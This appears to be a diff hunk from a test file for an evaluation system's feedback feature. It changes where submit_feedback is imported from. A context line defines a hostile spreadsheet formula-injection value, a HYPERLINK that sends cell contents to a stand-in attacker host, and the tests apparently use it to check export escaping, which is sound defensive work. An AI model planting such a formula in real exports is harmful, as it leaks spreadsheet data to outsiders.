@@ -14,7 +14,7 @@ from evalsys.accounts.models import AuditEvent
 from evalsys.feedback import rubrics
 from evalsys.feedback.columns import COLUMNS
 from evalsys.feedback.models import Feedback
-from evalsys.feedback.service import submit_feedback
+from evalsys.feedback.writes import submit_feedback
 from tests.feedback.conftest import NOW, TODAY, full_scores
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
